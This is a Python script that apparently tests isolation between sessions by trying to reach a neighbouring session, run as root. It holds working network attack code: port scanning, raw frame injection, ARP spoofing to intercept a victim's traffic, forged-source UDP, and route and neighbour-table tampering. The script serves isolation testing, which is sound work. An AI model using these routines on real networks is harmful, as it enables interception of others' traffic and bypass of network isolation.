"""Ways by which one session may try to reach another; runs inside a session, as root, with its 16 capabilities.

usage: attacks.py WAY ARGUMENT…     prints "reached: …" when it got through, else "nothing"
"""
import concurrent.futures
import fcntl
import socket
import struct
import subprocess
import sys
import time

DEVICE = "eth0"
ETH_ARP, ETH_IP, ETH_ALL = 0x0806, 0x0800, 0x0003
# 0x88b5 is for local experiments (IEEE 802): nothing but these tests speaks it.
ETH_TEST = 0x88B5


def own_mac():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        return fcntl.ioctl(probe.fileno(), 0x8927, struct.pack("256s", DEVICE.encode()))[18:24]  # SIOCGIFHWADDR


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def raw_socket(kind):
    channel = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(kind))
    channel.bind((DEVICE, 0))
    return channel


def connect(address, port):
    """TCP to an address. Refused counts as reached: the packet got there and came back."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    target = socket.getaddrinfo(address, int(port), family, socket.SOCK_STREAM)[0][4]
    with socket.socket(family, socket.SOCK_STREAM) as channel:
        channel.settimeout(3)
        try:
            channel.connect(target)
            return "connected"
        except ConnectionRefusedError:
            return "refused, so packets pass"
        except OSError:
            return ""


def scan(address, *ports):
    """TCP to many ports at once: those that got through, with how."""
    with concurrent.futures.ThreadPoolExecutor(len(ports)) as pool:
        results = pool.map(lambda port: connect(address, port), ports)
    return ", ".join(f"{port} {result}" for port, result in zip(ports, results) if result)


def ping(address):
    done = subprocess.run(["ping", "-c", "2", "-W", "1", "-i", "0.3", address], capture_output=True, text=True)
    return "answered ping" if done.returncode == 0 else ""


def frames(victim_mac, words):
    """Raw Ethernet frames at the victim's MAC and at everybody's; the victim listens with `listen`."""
    channel = raw_socket(ETH_TEST)
    for target in (mac(victim_mac), b"\xff" * 6, b"\x01\x00\x5e\x00\x00\x01"):
        for _ in range(5):
            channel.send(target + own_mac() + struct.pack("!H", ETH_TEST) + words.encode().ljust(50, b"\0"))
    return ""


def listen(words, seconds):
    """Whether any of the frames above arrives."""
    channel = raw_socket(ETH_ALL)
    print("listening", flush=True)
    deadline = time.monotonic() + float(seconds)
    while (left := deadline - time.monotonic()) > 0:
        channel.settimeout(left)
        try:
            if words.encode() in channel.recv(2048):
                return "a frame of the neighbour's arrived"
        except TimeoutError:
            break
    return ""


def arp_frame(operation, sender_mac, sender, target_mac, target, to):
    head = to + own_mac() + struct.pack("!H", ETH_ARP)
    sent, asked = sender_mac + socket.inet_aton(sender), target_mac + socket.inet_aton(target)
    return head + struct.pack("!HHBBH", 1, ETH_IP, 6, 4, operation) + sent + asked


def arp(address):
    """Asks for a neighbour's MAC."""
    channel = raw_socket(ETH_ARP)
    own = socket.gethostbyname(socket.gethostname())
    for _ in range(3):
        channel.send(arp_frame(1, own_mac(), own, b"\0" * 6, address, b"\xff" * 6))
    channel.settimeout(2)
    try:
        while frame := channel.recv(2048):
            if frame[28:32] == socket.inet_aton(address) and frame[20:22] == b"\0\2":
                return f"{address} is at {frame[22:28].hex(':')}"
    except TimeoutError:
        pass
    return ""


def spoof(victim, gateway, gateway_mac):
    """Tells the gateway that the victim's address is here, then watches for the victim's traffic."""
    channel = raw_socket(ETH_ALL)
    own = socket.gethostbyname(socket.gethostname())
    deadline = time.monotonic() + 6
    channel.settimeout(0.2)
    announced = 0.0
    while time.monotonic() < deadline:
        if time.monotonic() - announced > 0.3:
            for operation, target in ((2, gateway), (1, gateway), (2, victim)):
                channel.send(arp_frame(operation, own_mac(), victim, mac(gateway_mac), target, mac(gateway_mac)))
            announced = time.monotonic()
            print("announced", flush=True)
        try:
            frame = channel.recv(2048)
        except TimeoutError:
            continue
        if frame[6:12] == own_mac() or struct.unpack("!H", frame[12:14])[0] != ETH_IP:
            continue
        if frame[30:34] == socket.inet_aton(victim) and frame[26:30] != socket.inet_aton(own):
            return f"got a packet for {victim}"
    return ""


def forged_source(victim, victim_mac, gateway_mac, words):
    """UDP to the victim with a forged source and the gateway's MAC as next hop, and straight at the victim's MAC."""
    payload = words.encode()
    channel = raw_socket(ETH_IP)
    for source in ("10.213.0.1", victim, "127.0.0.1"):
        for hop in (gateway_mac, victim_mac):
            channel.send(mac(hop) + own_mac() + struct.pack("!H", ETH_IP) + udp_packet(source, victim, payload))
    return ""


def udp_packet(source, target, payload):
    udp = struct.pack("!HHHH", 4000, 4001, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target))
    total = sum(struct.unpack("!10H", head))
    total = (total & 0xFFFF) + (total >> 16)
    checksum = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
    return head[:10] + struct.pack("!H", checksum) + head[12:] + udp


def route_through(victim, port, gateway):
    """A route of one's own to the neighbour by way of the gateway."""
    subprocess.run(["ip", "route", "replace", f"{victim}/32", "via", gateway], check=True)
    try:
        return connect(victim, port) or ping(victim)
    finally:
        subprocess.run(["ip", "route", "del", f"{victim}/32"])


def static_neighbour(victim, victim_mac, port):
    """The neighbour's MAC entered by hand, so that no ARP is needed."""
    subprocess.run(["ip", "neigh", "replace", victim, "lladdr", victim_mac, "dev", DEVICE], check=True)
    try:
        return connect(victim, port) or ping(victim)
    finally:
        subprocess.run(["ip", "neigh", "del", victim, "dev", DEVICE])


def link_local(victim_mac, port):
    """IPv6: the victim's link-local address, made from its MAC, and all nodes by multicast."""
    subprocess.run(["sysctl", "-qw", f"net.ipv6.conf.{DEVICE}.disable_ipv6=0"], capture_output=True)
    first, *rest = mac(victim_mac)
    octets = bytes([first ^ 2, *rest[:2], 0xFF, 0xFE, *rest[2:]])
    address = "fe80::" + ":".join(f"{octets[i]:02x}{octets[i + 1]:02x}" for i in range(0, 8, 2)) + f"%{DEVICE}"
    done = subprocess.run(["ping", "-6", "-c", "2", "-W", "1", f"ff02::1%{DEVICE}"], capture_output=True, text=True)
    others = [line for line in done.stdout.splitlines() if "bytes from" in line and "DUP" in line]
    return connect(address, port) or ("several nodes answer ff02::1" if others else "") or ping(address)


WAYS = {name: value for name, value in globals().items() if callable(value) and getattr(value, "__module__", "") == "__main__"}

if __name__ == "__main__":
    seen = WAYS[sys.argv[1]](*sys.argv[2:])
    print(f"reached: {seen}" if seen else "nothing")
